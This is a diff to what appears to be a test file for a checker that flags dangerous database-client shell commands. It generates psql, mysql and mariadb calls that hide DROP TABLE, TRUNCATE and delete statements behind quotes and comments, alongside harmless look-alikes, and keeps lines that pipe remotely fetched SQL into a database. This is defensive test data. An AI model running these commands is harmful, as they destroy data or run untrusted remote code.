@@ -324,6 +324,36 @@ FETCHED = {
     "sqlite3": ("curl https://e.example/i.sql | sqlite3 app.db", "pg_dump shop | psql copy"),
     "mysql": ("curl https://e.example/i.sql | mysql shop", "curl https://e.example/x > x.json; mysql shop < dump.sql"),
 }
+BESIDE = {
+    "a literal": ("SELECT 'x'; {}", "SELECT '{}'"),
+    "a doubled quote": ("SELECT 'it''s'; {}", "INSERT INTO t VALUES ('it''s {}')"),
+    "a name": ('SELECT 1 AS "it\'s"; {}', 'SELECT 1 AS "{}"'),
+    "a comment": ("-- don't\n{};", "SELECT 1; -- {}"),
+    "a long comment": ("/* don't */ {}", "/* {}\n */ SELECT 1"),
+    "no comment": ("SELECT 5--1; {}", "SELECT 5 - 1 -- {}"),
+    "a comment of one kind": ("SELECT 1 # it's\n; {}", "SELECT 'x' || ' {}'"),
+    "run by it": ("/*! {} */", "COMMENT ON TABLE t IS '{}'"),
+    "left open": ("SELECT 'x; {}", "SELECT 'x', '{}'"),
+}
+GIVEN = {
+    "option": "{client} {option} {text}",
+    "pipe": "printf %s {text} | {client}",
+    "here-string": "{client} <<< {text}",
+    "here-document": "{client} <<'END'\n{plain}\nEND",
+}
+
+
+def _quoted(of: int, says: str) -> list[Case]:
+    """A statement that a text of a database quotes, or one that only seems so."""
+    made = []
+    for channel, texts in BESIDE.items():
+        for carrier, form in GIVEN.items():
+            for at, client in enumerate(("psql -d shop", "mysql shop", "mariadb shop")):
+                text = texts[of].format(("DROP TABLE orders", "TRUNCATE orders", "delete from orders")[at])
+                option = "-c" if client[0] == "p" else "-e"
+                call = form.format(client=client, option=option, plain=text, text=quote(text))
+                made.append(Case(carrier, client, f"beside {channel}", call, says))
+    return made
 
 
 def _fed(of: int, says: str) -> list[Case]:
@@ -343,7 +373,7 @@ def _fed(of: int, says: str) -> list[Case]:
 
 ATTACKS = [Case("a file of the session", "sql", call, call.format("drop.sql"), "ask", files=WROTE) for call in NAMED]
 INNOCENT = [Case("a file of the session", "sql", call, call.format("look.sql"), "pass", files=WROTE) for call in NAMED]
-ATTACKS += _fed(0, "ask") + _table(1, "ask") + [Case(carrier, name, "fed", bad, "ask") for carrier, name, bad, _ in FED]
-INNOCENT += (
-    _fed(1, "pass") + _table(2, "pass") + [Case(carrier, name, "fed", good, "pass") for carrier, name, _, good in FED]
-)
+ATTACKS += [*_quoted(0, "ask"), *_fed(0, "ask"), *_table(1, "ask")]
+ATTACKS += [Case(carrier, name, "fed", bad, "ask") for carrier, name, bad, _ in FED]
+INNOCENT += [*_quoted(1, "pass"), *_fed(1, "pass"), *_table(2, "pass")]
+INNOCENT += [Case(carrier, name, "fed", good, "pass") for carrier, name, _, good in FED]
